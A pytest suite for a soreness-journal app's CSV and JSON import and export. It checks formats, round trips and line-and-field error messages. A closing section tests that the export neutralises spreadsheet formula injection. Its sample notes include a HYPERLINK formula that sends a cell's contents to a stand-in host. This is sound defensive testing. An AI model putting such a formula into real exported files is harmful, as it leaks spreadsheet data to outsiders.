"""CSV and JSON files: exact formats, round trips, and bad input named by line and field."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from helpers.journals import small_journal
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from legday_desktop.domain.check_ins import CheckIn, RecoveryAction, WarningSymptom
from legday_desktop.domain.journal import Journal
from legday_desktop.domain.leg_days import LegDay
from legday_desktop.domain.profile import Profile
from legday_desktop.domain.regions import REGION_IDS
from legday_desktop.domain.soreness import SorenessRating
from legday_desktop.exchange.csv_format import (
    COLUMNS_BEFORE_QUALITY,
    HEADER,
    check_against_stored_leg_days,
    parse_csv,
    write_csv,
)
from legday_desktop.exchange.errors import ImportFileError
from legday_desktop.exchange.json_format import FORMAT_VERSION, parse_json, write_json
from legday_desktop.exchange.reading import parse_import

TODAY = dt.date(2026, 11, 25)

# A file from before a rating could say what the pain is like: it still imports.
SIX_COLUMNS = ",".join(COLUMNS_BEFORE_QUALITY)


def csv_error(text: str) -> str:
    with pytest.raises(ImportFileError) as error:
        parse_csv(text, "in.csv", today=TODAY)
    return str(error.value)


def json_error(document: object) -> str:
    with pytest.raises(ImportFileError) as error:
        parse_json(json.dumps(document), "in.json", today=TODAY)
    return str(error.value)


class TestCsv:
    def test_exact_layout(self) -> None:
        lines = write_csv(small_journal()).splitlines()
        assert lines[0] == "date,region,level,leg_day_date,days_after,note,quality"
        assert lines[1] == "2026-03-01,calves.left,1,,,,"
        assert lines[2] == '2026-03-03,quadriceps.left,5,2026-03-02,1,"stairs, ouch",'
        assert lines[4] == "2026-03-04,quadriceps.left,3,2026-03-02,2,,"
        assert lines[5].startswith("2026-03-07,hamstrings.right,0,2026-03-06,1,")

    def test_round_trip_keeps_ratings_and_leg_day_dates(self) -> None:
        text = write_csv(small_journal())
        parsed = parse_csv(text, "in.csv", today=TODAY)
        assert parsed.journal.ratings == small_journal().sorted().ratings
        assert [leg_day.date for leg_day in parsed.journal.leg_days] == [
            dt.date(2026, 3, 2),
            dt.date(2026, 3, 6),
        ]
        assert all(leg_day.title == "Imported" for leg_day in parsed.journal.leg_days)
        assert parsed.leg_days_are_references
        assert write_csv(parsed.journal) == text
        assert parsed.places[("rating", dt.date(2026, 3, 4), "quadriceps.left")] == "5"

    def test_bom_crlf_and_blank_lines_are_accepted(self) -> None:
        text = "\ufeff" + write_csv(small_journal()).replace("\n", "\r\n") + "\r\n\r\n"
        parsed = parse_import(text.encode(), "in.csv", today=TODAY)
        assert len(parsed.journal.ratings) == 5

    def test_only_cr_and_lf_end_lines_so_line_numbers_count_as_a_reader_does(self) -> None:
        note = '"form\x0cfeed, line\u2028separator and a\nbreak"'
        rows = [
            f"2026-03-01,calves.left,2,,,{note}",
            "2026-03-02,calves.left,2,,,plain",
            "2026-03-03,calves.left,12,,,",
        ]
        message = csv_error("\r\n".join([SIX_COLUMNS, *rows]))
        assert message.startswith("in.csv:5: level: 12 is outside the scale")
        parsed = parse_csv("\n".join([SIX_COLUMNS, *rows[:2]]) + "\n", "in.csv", today=TODAY)
        assert parsed.journal.ratings[0].note == "form\x0cfeed, line\u2028separator and a\nbreak"
        assert parsed.places[("rating", dt.date(2026, 3, 2), "calves.left")] == "4"
        assert ("rating", dt.date(2026, 3, 1), "glutes.left") not in parsed.places

    def test_unknown_region_on_line_7(self) -> None:
        rows = [f"2026-03-0{day},calves.left,2,,," for day in range(1, 6)]
        rows.append("2026-03-06,calf.left,2,,,")
        message = csv_error("\n".join([SIX_COLUMNS, *rows]))
        assert message.startswith("in.csv:7: region: unknown region 'calf.left'")

    @pytest.mark.parametrize(
        ("row", "expected"),
        [
            ("2026-03-03,calves.left,11,,,", "in.csv:2: level: 11 is outside the scale 0–10"),
            ("2026-03-03,calves.left,5.5,,,", "in.csv:2: level: '5.5' is not a whole number"),
            ("2026-03-03,calves.left,,,,", "in.csv:2: level: '' is not a whole number"),
            (
                "03/03/2026,calves.left,5,,,",
                "in.csv:2: date: '03/03/2026' is not a date in the form YYYY-MM-DD",
            ),
            ("2026-02-30,calves.left,5,,,", "in.csv:2: date: '2026-02-30' is not a calendar date"),
            ("2027-01-01,calves.left,5,,,", "in.csv:2: date: 2027-01-01 is in the future"),
            ("2026-03-03,calves.left,5,2026-03-01,1,", "in.csv:2: days_after: 1 does not match"),
            (
                "2026-03-03,calves.left,5,2026-03-04,0,",
                "in.csv:2: leg_day_date: 2026-03-04 comes after",
            ),
            (
                "2026-03-03,calves.left,5,,2,",
                "in.csv:2: days_after: is given but leg_day_date is empty",
            ),
            ("2026-03-03,calves.left,5", "in.csv:2: row: has 3 fields; expected 6"),
            ('2026-03-03,calves.left,5,,,"unclosed', "in.csv:2: row: not valid CSV"),
        ],
    )
    def test_bad_rows_name_line_and_field(self, row: str, expected: str) -> None:
        assert csv_error(f"{SIX_COLUMNS}\n{row}\n").startswith(expected)

    @pytest.mark.parametrize("digit", ["\u0665", "\uff15", "\u09eb"])
    def test_only_ascii_digits_count(self, digit: str) -> None:
        assert csv_error(f"{SIX_COLUMNS}\n2026-03-03,calves.left,{digit},,,\n").startswith(
            "in.csv:2: level: "
        )

    def test_rows_must_agree_with_the_journals_own_leg_days(self) -> None:
        text = f"{SIX_COLUMNS}\n2026-03-07,quadriceps.left,4,2026-03-01,6,\n"
        parsed = parse_csv(text, "in.csv", today=TODAY)
        check_against_stored_leg_days(parsed, [dt.date(2026, 2, 1), dt.date(2026, 3, 1)])
        with pytest.raises(ImportFileError) as error:
            check_against_stored_leg_days(parsed, [dt.date(2026, 3, 5)])
        assert str(error.value).startswith(
            "in.csv:2: leg_day_date: the journal has a leg day on 2026-03-05"
        )

    def test_messages_are_one_printable_line_of_bounded_length(self) -> None:
        message = csv_error('"\x00date\n",region,level,leg_day_date,days_after,note\n')
        assert message.startswith("in.csv:1: header: expected ")
        assert message.endswith("found \\x00date\\n,region,level,leg_day_date,days_after,note")
        message = csv_error(f"{SIX_COLUMNS}\n{'2' * 100_000},calves.left,5,,,\n")
        assert message.startswith("in.csv:2: date: '22222")
        assert message.endswith("2222' is not a date in the form YYYY-MM-DD")
        assert "[… 99" in message and len(message) < 1100
        document = json.loads(write_json(small_journal()))
        document["soreness"][0]["lin\ne \ud800"] = 1
        assert json_error(document) == "in.json:$.soreness[0]: lin\\ne \\ud800: unknown field"

    def test_empty_file_and_wrong_header(self) -> None:
        assert csv_error("").startswith("in.csv:1: header: the file is empty")
        assert csv_error("  \n\n").startswith("in.csv:1: header: the file is empty")
        assert csv_error("date,region,level\n").startswith("in.csv:1: header: expected date,region")

    def test_duplicates_and_inconsistent_leg_days(self) -> None:
        duplicate = f"{SIX_COLUMNS}\n2026-03-03,calves.left,5,,,\n2026-03-03,calves.left,6,,,\n"
        assert csv_error(duplicate).startswith(
            "in.csv:3: region: calves.left on 2026-03-03 is already rated on line 2"
        )
        # Line 3 claims an older leg day although line 2 shows a later one before it.
        stale = (
            f"{SIX_COLUMNS}\n2026-03-05,calves.left,5,2026-03-04,1,\n"
            "2026-03-06,calves.right,5,2026-03-01,5,\n"
        )
        assert csv_error(stale).startswith(
            "in.csv:3: leg_day_date: the file has a leg day on 2026-03-04"
        )

    def test_line_numbers_count_multi_line_notes(self) -> None:
        text = (
            f'{SIX_COLUMNS}\n2026-03-03,calves.left,5,,,"two\nlines"\n'
            "2026-03-04,calves.left,12,,,\n"
        )
        assert csv_error(text).startswith("in.csv:4: level:")

    def test_not_utf8_names_the_line(self) -> None:
        data = f"{SIX_COLUMNS}\n2026-03-03,calves.left,5,,,caf".encode() + b"\xe9\n"
        with pytest.raises(ImportFileError, match=r"^in.csv:2: encoding: not UTF-8"):
            parse_import(data, "in.csv", today=TODAY)

    def test_not_utf8_after_a_bom_names_the_right_byte_and_line(self) -> None:
        data = b"\xef\xbb\xbf" + f"{SIX_COLUMNS}\n2026-03-03,calves.left,5,,,\n".encode() + b"\xff"
        with pytest.raises(
            ImportFileError, match=r"^in.csv:3: encoding: not UTF-8 text \(byte 0xff at offset 78\)"
        ):
            parse_import(data, "in.csv", today=TODAY)

    def test_not_utf8_counts_lines_as_the_csv_reader_does(self) -> None:
        # A note may hold a lone CR (the export quotes it); it ends a line for the CSV reader.
        data = f'{SIX_COLUMNS}\n2026-03-03,calves.left,5,,,"a\rb"\n2026-03-04,calves.left,'.encode()
        for line_4, field in ((b"11,,,", "level"), (b"5,,,caf\xe9", "encoding")):
            with pytest.raises(ImportFileError, match=rf"^in.csv:4: {field}: "):
                parse_import(data + line_4, "in.csv", today=TODAY)


class TestJson:
    def test_layout(self) -> None:
        document = json.loads(write_json(small_journal()))
        assert document["format_version"] == FORMAT_VERSION == 4
        assert list(document) == ["format_version", "leg_days", "soreness", "check_ins", "profile"]
        assert document["profile"] == {"statin_or_new_medicine": None, "answered_on": None}
        assert document["leg_days"][0] == {
            "date": "2026-03-02",
            "start_time": "18:30",
            "title": "Squat day",
            "exercises": ["Squat", "Lunge"],
            "rpe": 8,
            "duration_minutes": 60,
            "notes": "Felt strong",
        }
        assert document["soreness"][0] == {
            "date": "2026-03-01",
            "region": "calves.left",
            "level": 1,
            "note": "",
        }
        assert document["check_ins"][1]["symptoms"] == ["dark_urine"]

    def test_round_trip_is_exact(self) -> None:
        text = write_json(small_journal())
        parsed = parse_json(text, "in.json", today=TODAY)
        assert parsed.journal == small_journal().sorted()
        assert not parsed.leg_days_are_references
        assert write_json(parsed.journal) == text

    def test_the_profile_round_trips(self) -> None:
        journal = Journal(profile=Profile(True, dt.date(2026, 11, 2)))
        text = write_json(journal)
        assert json.loads(text)["profile"] == {
            "statin_or_new_medicine": True,
            "answered_on": "2026-11-02",
        }
        parsed = parse_json(text, "in.json", today=TODAY)
        assert parsed.journal.profile == journal.profile
        assert write_json(parsed.journal) == text

    def test_a_version_1_export_still_imports_unchanged(self) -> None:
        """format_version 1 (before the profile and the new symptoms) reads as it always did."""
        document = json.loads(write_json(small_journal()))
        document["format_version"] = 1
        del document["profile"]
        parsed = parse_json(json.dumps(document), "old.json", today=TODAY)
        assert parsed.journal == small_journal().sorted()
        assert parsed.journal.profile.is_empty
        # Written again, it is the current version with an unanswered profile.
        assert json.loads(write_json(parsed.journal))["format_version"] == FORMAT_VERSION

    @pytest.mark.parametrize(
        ("change", "expected"),
        [
            (
                lambda d: (d.update(format_version=1), d.pop("profile")) and d.update(profile={}),
                "in.json:$: profile: unknown field",
            ),
            (
                lambda d: d["profile"].update(statin_or_new_medicine="yes"),
                "in.json:$.profile: statin_or_new_medicine: must be true/false, got text",
            ),
            (
                lambda d: d["profile"].update(statin_or_new_medicine=True),
                "in.json:$.profile: answered_on: an answer needs the day it was given",
            ),
            (
                lambda d: d["profile"].update(
                    statin_or_new_medicine=True, answered_on="2099-01-01"
                ),
                "in.json:$.profile: answered_on: 2099-01-01 is in the future",
            ),
            (
                lambda d: d["profile"].update(mood="good"),
                "in.json:$.profile: mood: unknown field",
            ),
        ],
    )
    def test_bad_profiles_name_path_and_field(self, change: object, expected: str) -> None:
        document = json.loads(write_json(small_journal()))
        change(document)  # type: ignore[operator]
        assert json_error(document).startswith(expected)

    @pytest.mark.parametrize(
        ("change", "expected"),
        [
            (
                lambda d: d["soreness"][1].update(level=11),
                "in.json:$.soreness[1]: level: 11 is outside",
            ),
            (
                lambda d: d["soreness"][1].update(level="5"),
                "in.json:$.soreness[1]: level: must be a whole number, got text",
            ),
            (
                lambda d: d["soreness"][0].update(region="quads"),
                "in.json:$.soreness[0]: region: unknown region",
            ),
            (lambda d: d["soreness"][0].pop("level"), "in.json:$.soreness[0]: level: missing"),
            (
                lambda d: d["soreness"][0].update(mood="ok"),
                "in.json:$.soreness[0]: mood: unknown field",
            ),
            (
                lambda d: d["leg_days"][0].update(date="2026-3-2"),
                "in.json:$.leg_days[0]: date: '2026-3-2' is not a date",
            ),
            (
                lambda d: d["leg_days"][1].update(rpe=True),
                "in.json:$.leg_days[1]: rpe: must be a whole number, got true/false",
            ),
            (
                lambda d: d["leg_days"][0].update(start_time="6pm"),
                "in.json:$.leg_days[0]: start_time: '6pm' is not a time",
            ),
            (
                lambda d: d["leg_days"][0]["exercises"].append(3),
                "in.json:$.leg_days[0].exercises[2]: exercises: must be text",
            ),
            (
                lambda d: d["leg_days"][1]["exercises"].append("\x00"),
                "in.json:$.leg_days[1].exercises[2]: exercises: contains a NUL character",
            ),
            (
                lambda d: d["check_ins"][0].update(symptoms=["headache"]),
                "in.json:$.check_ins[0]: symptoms: unknown symptom 'headache'",
            ),
            (
                lambda d: d["check_ins"][0].update(sleep_hours=30),
                "in.json:$.check_ins[0]: sleep_hours: 30 hours is outside 0–24",
            ),
            (
                lambda d: d.update(format_version=5),
                "in.json:$: format_version: this Legday reads format_version 1, 2, 3, 4, the file "
                "has 5 "
                "(from a newer Legday?)",
            ),
            (lambda d: d.pop("check_ins"), "in.json:$: check_ins: missing"),
            (lambda d: d.update(soreness={}), "in.json:$.soreness: soreness: must be a JSON list"),
            (
                lambda d: d["soreness"].append(dict(d["soreness"][0])),
                "in.json:$.soreness[5]: date: repeats the entry at $.soreness[0]",
            ),
        ],
    )
    def test_bad_entries_name_path_and_field(self, change: object, expected: str) -> None:
        document = json.loads(write_json(small_journal()))
        change(document)  # type: ignore[operator]
        assert json_error(document).startswith(expected)

    @pytest.mark.parametrize(
        ("change", "expected"),
        [
            (
                lambda d: d["soreness"][0].update(date=None),
                "in.json:$.soreness[0]: date: must be text, got null",
            ),
            (
                lambda d: d["check_ins"][0].update(date=None),
                "in.json:$.check_ins[0]: date: must be text, got null",
            ),
            (
                lambda d: d["soreness"][0].update(note="\ud800"),
                "in.json:$.soreness[0]: note: contains a character that is not valid Unicode",
            ),
            (
                lambda d: d["leg_days"][0].update(title="\udfff"),
                "in.json:$.leg_days[0]: title: contains a character that is not valid Unicode",
            ),
            (
                lambda d: d.update(format_version=1.0),
                "in.json:$: format_version: this Legday reads format_version 1, 2, 3, 4",
            ),
        ],
    )
    def test_null_broken_unicode_and_float_version(self, change: object, expected: str) -> None:
        document = json.loads(write_json(small_journal()))
        change(document)  # type: ignore[operator]
        assert json_error(document).startswith(expected)

    def test_repeated_keys_and_huge_numbers_are_refused_where_they_are(self) -> None:
        text = write_json(small_journal()).replace('"level": 1,', '"level": 11, "level": 1,')
        with pytest.raises(
            ImportFileError, match=r"^in.json:\$\.soreness\[0\]: level: appears twice in this"
        ):
            parse_json(text, "in.json", today=TODAY)
        text = write_json(small_journal()).replace('"rpe": 8', '"rpe": ' + "9" * 5000)
        with pytest.raises(
            ImportFileError,
            match=r"^in.json:\$\.leg_days\[0\]: rpe: must be a whole number, got a number too",
        ):
            parse_json(text, "in.json", today=TODAY)

    def test_a_whole_number_beyond_any_float_is_out_of_range(self) -> None:
        document = json.loads(write_json(small_journal()))
        document["check_ins"][0]["water_litres"] = 10**400
        assert json_error(document).startswith(
            "in.json:$.check_ins[0]: water_litres: must be a number of litres from 0 to 15, got inf"
        )

    def test_nesting_too_deep_names_the_line(self) -> None:
        text = '{"format_version": 1,\n"leg_days": ' + "[" * 100_000 + "]" * 100_000 + "}"
        with pytest.raises(ImportFileError, match=r"^in.json:2: json: nested too deeply"):
            parse_json(text, "in.json", today=TODAY)

    def test_syntax_errors_name_the_line(self) -> None:
        with pytest.raises(ImportFileError, match=r"^in.json:3: json: Expecting"):
            parse_json('{\n "format_version": 1,\n "leg_days": [,]\n}', "in.json", today=TODAY)
        with pytest.raises(ImportFileError, match=r"^in.json:1: json: the file is empty"):
            parse_json("", "in.json", today=TODAY)
        assert json_error([1, 2]).startswith("in.json:$: entry: must be a JSON object")

    def test_format_is_detected_from_content_without_a_suffix(self) -> None:
        parsed = parse_import(write_json(small_journal()).encode(), "backup", today=TODAY)
        assert len(parsed.journal.check_ins) == 2


# --- properties: any valid journal survives a round trip -----------------------------

dates = st.dates(dt.date(2000, 1, 1), TODAY)
texts = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
leg_days = st.builds(
    LegDay,
    date=dates,
    title=texts,
    # No NUL in names: the journal cannot store one (SQLite's length() stops there), so
    # importers refuse it.
    exercises=st.lists(
        texts.map(lambda t: t.replace("\x00", "")).filter(str.strip), max_size=4
    ).map(tuple),
    rpe=st.none() | st.integers(1, 10),
    duration_minutes=st.none() | st.integers(1, 600),
    start_time=st.none() | st.times().map(lambda t: t.replace(microsecond=0)),
    notes=texts,
)
ratings = st.builds(
    SorenessRating,
    date=dates,
    region_id=st.sampled_from(REGION_IDS),
    level=st.integers(0, 10),
    note=texts,
)
check_ins = st.builds(
    CheckIn,
    date=dates,
    symptoms=st.frozensets(st.sampled_from(list(WarningSymptom))),
    actions=st.frozensets(st.sampled_from(list(RecoveryAction))),
    water_litres=st.none() | st.floats(0, 15),
    sleep_hours=st.none() | st.floats(0, 24),
    note=texts,
)
profiles = st.just(Profile()) | st.builds(Profile, st.booleans(), dates)
journals = st.builds(
    Journal,
    leg_days=st.lists(leg_days, max_size=5, unique_by=lambda x: x.date).map(tuple),
    ratings=st.lists(ratings, max_size=12, unique_by=lambda x: (x.date, x.region_id)).map(tuple),
    check_ins=st.lists(check_ins, max_size=5, unique_by=lambda x: x.date).map(tuple),
    profile=profiles,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(journals)
def test_json_round_trip_of_any_journal(journal: Journal) -> None:
    text = write_json(journal)
    parsed = parse_import(text.encode(), "any.json", today=TODAY)
    assert parsed.journal == journal.sorted()
    assert write_json(parsed.journal) == text


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(journals)
def test_csv_round_trip_of_any_journal(journal: Journal) -> None:
    text = write_csv(journal)
    parsed = parse_import(text.encode(), "any.csv", today=TODAY)
    assert parsed.journal.ratings == journal.sorted().ratings
    assert write_csv(parsed.journal) == text


# --- CSV cells a spreadsheet would run as formulas -------------------------------------

FORMULA_LIKE_NOTES = [
    '=HYPERLINK("https://example.invalid/?q="&A1,"Click for details")',
    "+1 after squats",
    "-2 since yesterday",
    "@SUM(A1:A9)",
    "\tindented with a tab",
    "\rstarts with a carriage return",
    "'already quoted",
    "''two apostrophes",
    "=1+1",
]


def cells_of(csv_text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(csv_text, newline="")))


@pytest.mark.parametrize("note", FORMULA_LIKE_NOTES)
def test_csv_export_neutralises_formula_like_notes_and_imports_them_back_as_they_were(
    note: str,
) -> None:
    journal = Journal(ratings=(SorenessRating(dt.date(2026, 3, 2), "calves.left", 4, note),))
    text = write_csv(journal)
    (header, row) = cells_of(text)
    assert header == HEADER.split(",")
    assert row[5] == f"'{note}"  # a spreadsheet shows the text; it runs nothing
    parsed = parse_import(text.encode(), "any.csv", today=TODAY)
    assert parsed.journal.ratings[0].note == note
    assert write_csv(parsed.journal) == text


def test_ordinary_notes_are_written_as_they_are() -> None:
    notes = ["Tight on stairs", "knee 3-4 after runs", "a=b", "email me@home"]
    journal = Journal(
        ratings=tuple(
            SorenessRating(dt.date(2026, 3, 2), region, 2, note)
            for region, note in zip(sorted(REGION_IDS), notes, strict=False)
        )
    )
    assert [row[5] for row in cells_of(write_csv(journal))[1:]] == notes


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", ""]), texts)
def test_csv_export_import_export_is_byte_identical_for_any_note(start: str, rest: str) -> None:
    note = start + rest
    journal = Journal(ratings=(SorenessRating(dt.date(2026, 3, 2), "calves.left", 4, note),))
    text = write_csv(journal)
    (_, row) = cells_of(text)
    assert not row[5].startswith(("=", "+", "-", "@", "\t", "\r"))
    parsed = parse_import(text.encode(), "any.csv", today=TODAY)
    assert parsed.journal.ratings[0].note == note
    assert write_csv(parsed.journal) == text
